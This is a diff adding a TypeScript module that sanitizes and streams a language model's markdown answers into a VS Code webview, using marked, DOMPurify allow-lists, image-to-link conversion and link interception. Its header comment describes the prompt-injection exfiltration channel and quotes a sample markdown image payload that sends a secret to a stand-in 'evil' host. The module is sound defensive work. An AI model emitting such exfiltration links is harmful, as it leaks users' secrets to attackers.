@@ -1,0 +1,221 @@
+/**
+ * Model output → DOM. Markdown is parsed by `marked` and every fragment goes through DOMPurify
+ * with a strict allow-list before it touches the document. On top of that:
+ *
+ * - Raw HTML in the model's answer is shown as text (escaped), never interpreted: an answer that
+ *   says "use a <details> element" shows the tag instead of silently swallowing it, and no markup
+ *   from a model reaches DOMPurify except what marked itself generates.
+ * - Images are never loaded. A markdown image becomes a link labelled with its alt text: a remote
+ *   image is a request the user did not make (the classic prompt-injection exfiltration channel,
+ *   `![](https://evil/?q=<secret>)`), the CSP blocks remote images anyway, and data: images in
+ *   answers are too rare to be worth an exception.
+ * - Links keep only http(s) and mailto URLs (DOMPurify drops any other href: javascript:, data:,
+ *   vbscript:, command:, file:, relative…). Clicks never navigate inside the webview; the views
+ *   turn them into an `openLink` message (see `interceptLinks`).
+ *
+ * `StreamingMarkdown` renders an answer while it streams with work per chunk independent of the
+ * answer's length: completed blocks (text up to a blank line outside a code fence) are rendered
+ * once and frozen; only the trailing open block is re-rendered, at most once per animation frame.
+ */
+import DOMPurify, { type Config } from 'dompurify';
+import hljs from 'highlight.js/lib/core';
+import bash from 'highlight.js/lib/languages/bash';
+import css from 'highlight.js/lib/languages/css';
+import javascript from 'highlight.js/lib/languages/javascript';
+import json from 'highlight.js/lib/languages/json';
+import python from 'highlight.js/lib/languages/python';
+import typescript from 'highlight.js/lib/languages/typescript';
+import xml from 'highlight.js/lib/languages/xml';
+import { Marked, type Tokens } from 'marked';
+
+for (const [name, lang] of Object.entries({ bash, css, javascript, json, python, typescript, xml })) hljs.registerLanguage(name, lang);
+hljs.registerAliases(['sh', 'shell', 'zsh', 'console'], { languageName: 'bash' });
+hljs.registerAliases(['html', 'svg', 'xhtml'], { languageName: 'xml' });
+hljs.registerAliases(['js', 'jsx', 'mjs', 'cjs'], { languageName: 'javascript' });
+hljs.registerAliases(['ts', 'tsx', 'mts', 'cts'], { languageName: 'typescript' });
+hljs.registerAliases(['py'], { languageName: 'python' });
+
+function escapeHtml(s: string): string {
+  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');
+}
+
+/** The language word of a fence info string ("ts title=x" → "ts"), restricted to a safe charset. */
+function fenceLanguage(info: string | undefined): string {
+  const word = (info ?? '').trim().split(/\s+/)[0] ?? '';
+  return /^[A-Za-z0-9_+#.-]{1,32}$/.test(word) ? word : '';
+}
+
+const marked = new Marked({
+  gfm: true,
+  breaks: false,
+  async: false,
+  renderer: {
+    // Raw HTML (block or inline) is text.
+    html(token: Tokens.HTML | Tokens.Tag): string {
+      return escapeHtml(token.text);
+    },
+    // No images: a link to the image, labelled with its alt text (DOMPurify still vets the URL).
+    image(token: Tokens.Image): string {
+      const label = `🖼 ${token.text || 'image'}`;
+      return `<a href="${escapeHtml(token.href)}">${escapeHtml(label)}</a>`;
+    },
+    code(token: Tokens.Code): string {
+      const lang = fenceLanguage(token.lang);
+      let body = escapeHtml(token.text);
+      if (lang && hljs.getLanguage(lang)) {
+        try {
+          body = hljs.highlight(token.text, { language: lang, ignoreIllegals: true }).value;
+        } catch {
+          // keep the escaped text
+        }
+      }
+      return `<div class="code-block"><div class="code-head"><span class="code-lang">${escapeHtml(lang || 'text')}</span></div><pre><code class="hljs">${body}</code></pre></div>`;
+    },
+  },
+});
+
+/** What survives sanitizing: formatting, lists, tables, code, links. Nothing active, no media, no forms. */
+export const SANITIZE_CONFIG: Config = {
+  ALLOWED_TAGS: [
+    'a', 'b', 'blockquote', 'br', 'code', 'del', 'div', 'em', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'i', 'li', 'ol', 'p', 'pre', 's',
+    'span', 'strong', 'sub', 'sup', 'table', 'tbody', 'td', 'th', 'thead', 'tr', 'ul',
+  ],
+  ALLOWED_ATTR: ['href', 'title', 'class', 'start', 'align'],
+  // Belt and braces: these are not in the allow-list either.
+  FORBID_TAGS: ['script', 'style', 'iframe', 'frame', 'object', 'embed', 'form', 'input', 'button', 'textarea', 'select', 'svg', 'math', 'img', 'video', 'audio', 'source', 'link', 'meta', 'base', 'template'],
+  FORBID_ATTR: ['style', 'src', 'srcset', 'action', 'formaction', 'xlink:href', 'background', 'poster'],
+  ALLOWED_URI_REGEXP: /^(?:https?:|mailto:)/i,
+  ALLOW_DATA_ATTR: false,
+  ALLOW_ARIA_ATTR: false,
+  ALLOW_UNKNOWN_PROTOCOLS: false,
+  SAFE_FOR_TEMPLATES: false,
+  WHOLE_DOCUMENT: false,
+  KEEP_CONTENT: true,
+};
+
+let hooked = false;
+function purify(html: string): DocumentFragment {
+  if (!hooked) {
+    hooked = true;
+    DOMPurify.addHook('uponSanitizeAttribute', (_node, data) => {
+      // No event handlers, whatever the allow-list says.
+      if (/^on/i.test(data.attrName)) data.keepAttr = false;
+    });
+    DOMPurify.addHook('afterSanitizeAttributes', (node) => {
+      if (node.tagName === 'A') {
+        const href = node.getAttribute('href');
+        if (href !== null && !/^(?:https?:|mailto:)/i.test(href.trim())) node.removeAttribute('href');
+        if (node.hasAttribute('href')) node.setAttribute('title', node.getAttribute('href')!);
+      }
+    });
+  }
+  return DOMPurify.sanitize(html, { ...SANITIZE_CONFIG, RETURN_DOM_FRAGMENT: true }) as DocumentFragment;
+}
+
+/** Markdown → a sanitized fragment, ready to append. */
+export function renderMarkdown(source: string): DocumentFragment {
+  return purify(marked.parse(source, { async: false }) as string);
+}
+
+/** The text of a code block element (as rendered by renderMarkdown). */
+export function codeOf(block: Element): string {
+  return block.querySelector('pre > code')?.textContent ?? '';
+}
+
+const FENCE = /^\s*(`{3,}|~{3,})/;
+
+/**
+ * An answer being streamed into `root`. `append` is cheap (buffers); the DOM is updated once per
+ * animation frame: newly completed blocks are rendered once into frozen elements, the open tail
+ * is re-rendered. Scanning is incremental (each character is scanned once), so the work per chunk
+ * is bounded by the size of the open block, not the answer.
+ */
+export class StreamingMarkdown {
+  private readonly root: HTMLElement;
+  private readonly live: HTMLElement;
+  private readonly onRender: (added: HTMLElement) => void;
+  /** Text after the last frozen block. */
+  private tail = '';
+  /** How far `tail` has been scanned (always at a line start). */
+  private scanned = 0;
+  /** End of the last blank line outside a fence within `tail` (0: none yet). */
+  private boundary = 0;
+  private fence: string | null = null;
+  private frame = 0;
+
+  constructor(root: HTMLElement, onRender: (added: HTMLElement) => void = () => {}) {
+    this.root = root;
+    this.onRender = onRender;
+    this.live = document.createElement('div');
+    this.live.className = 'md-live';
+    root.append(this.live);
+  }
+
+  append(text: string): void {
+    if (!text) return;
+    this.tail += text;
+    if (!this.frame) this.frame = requestAnimationFrame(() => this.flush());
+  }
+
+  /** Brings the DOM up to date now (also called on each animation frame). */
+  flush(): void {
+    if (this.frame) cancelAnimationFrame(this.frame);
+    this.frame = 0;
+    this.scan();
+    if (this.boundary > 0) {
+      const done = document.createElement('div');
+      done.className = 'md-block';
+      done.append(renderMarkdown(this.tail.slice(0, this.boundary)));
+      this.root.insertBefore(done, this.live);
+      this.onRender(done);
+      this.tail = this.tail.slice(this.boundary);
+      this.scanned -= this.boundary;
+      this.boundary = 0;
+    }
+    this.live.replaceChildren(renderMarkdown(this.tail));
+    this.onRender(this.live);
+  }
+
+  /** Scans the complete lines added since the last scan for fences and blank lines. */
+  private scan(): void {
+    const s = this.tail;
+    let i = this.scanned;
+    for (;;) {
+      const nl = s.indexOf('\n', i);
+      if (nl < 0) break;
+      const line = s.slice(i, nl);
+      const m = FENCE.exec(line);
+      if (this.fence === null) {
+        if (m) this.fence = m[1]!;
+        else if (line.trim() === '' && i > 0) this.boundary = nl + 1;
+      } else if (m && m[1]![0] === this.fence[0] && m[1]!.length >= this.fence.length && line.trim() === m[1]) {
+        this.fence = null;
+      }
+      i = nl + 1;
+    }
+    this.scanned = i;
+  }
+
+  dispose(): void {
+    if (this.frame) cancelAnimationFrame(this.frame);
+    this.frame = 0;
+  }
+}
+
+/**
+ * Links in model output never navigate the webview (nor reach VS Code's own link handling):
+ * a click on an http(s) link calls `open(url)`; every other click on a link is swallowed.
+ */
+export function interceptLinks(root: HTMLElement, open: (url: string) => void): void {
+  const handler = (e: MouseEvent): void => {
+    const a = (e.target as Element | null)?.closest?.('a');
+    if (!a || !root.contains(a)) return;
+    e.preventDefault();
+    e.stopPropagation();
+    if (e.type !== 'click' && !(e.type === 'auxclick' && e.button === 1)) return;
+    const href = a.getAttribute('href') ?? '';
+    if (/^https?:\/\//i.test(href)) open(href);
+  };
+  root.addEventListener('click', handler);
+  root.addEventListener('auxclick', handler);
+}
